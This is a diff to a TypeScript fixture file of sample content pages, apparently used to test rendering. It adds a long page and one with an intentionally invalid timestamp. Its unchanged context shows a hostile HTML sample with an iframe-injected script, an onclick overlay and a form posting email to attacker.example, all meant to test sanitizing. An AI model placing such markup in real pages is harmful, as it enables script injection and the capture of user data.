@@ -18,6 +18,8 @@ export const contentSamples: Record<string, string> = {
   "privacy-se": "Privacy Policy for Sweden",
   imprint: "Imprint",
   invitations: "An editorial page",
+  long: "A long text with a table of contents, its headings out of order",
+  undated: "A date that no calendar has",
   unsafe: "Hostile HTML: no script may run, no picture may call home",
   "no-such-page": "Unknown to the backend",
 }
@@ -31,6 +33,19 @@ const unsafeHtml = `<p>This sentence stays.</p>
 <iframe srcdoc="<script>parent.document.title = 'unsafe'</script>"></iframe>
 <form action="https://attacker.example/"><input name="email"><button>Send</button></form>
 <p style="position: fixed; inset: 0" onclick="document.title = 'unsafe'">This one too.</p>`
+
+/** A text of every kind of paragraph, on several printed pages. */
+function longHtml(language: Language): string {
+  const sections = [termsTexts, privacyTexts, imprintTexts, invitationTexts].flatMap(
+    (texts) => texts[language].sections,
+  )
+  const parts = sections.map(
+    ([heading, paragraph]) =>
+      `<h1>${heading}</h1><p>${`${paragraph} `.repeat(4)}</p><h3>${heading}</h3><ul><li>${paragraph}</li></ul>
+<table><tbody><tr><th scope="row">${heading}</th><td>${paragraph}</td></tr></tbody></table>`,
+  )
+  return parts.join("")
+}
 
 function html({ intro, sections }: ContentText): string {
   const parts = sections.map(([heading, paragraph]) => `<h2>${heading}</h2><p>${paragraph}</p>`)
@@ -51,6 +66,9 @@ function find(id: string): { texts: TranslatedText; country: string } | null {
 export function contentPage(id: string, language: Language) {
   const updatedAt = "2026-03-01T09:00:00Z"
   if (id === "unsafe") return { id, title: "Unsafe", html: unsafeHtml, updatedAt }
+  if (id === "undated")
+    return { id, title: "Undated", html: html(imprintTexts[language]), updatedAt: "2026-03-01T29:00:00Z" }
+  if (id === "long") return { id, title: termsTexts[language].title, html: longHtml(language), updatedAt }
   const found = find(id)
   if (!found) return null
   const text = found.texts[language]
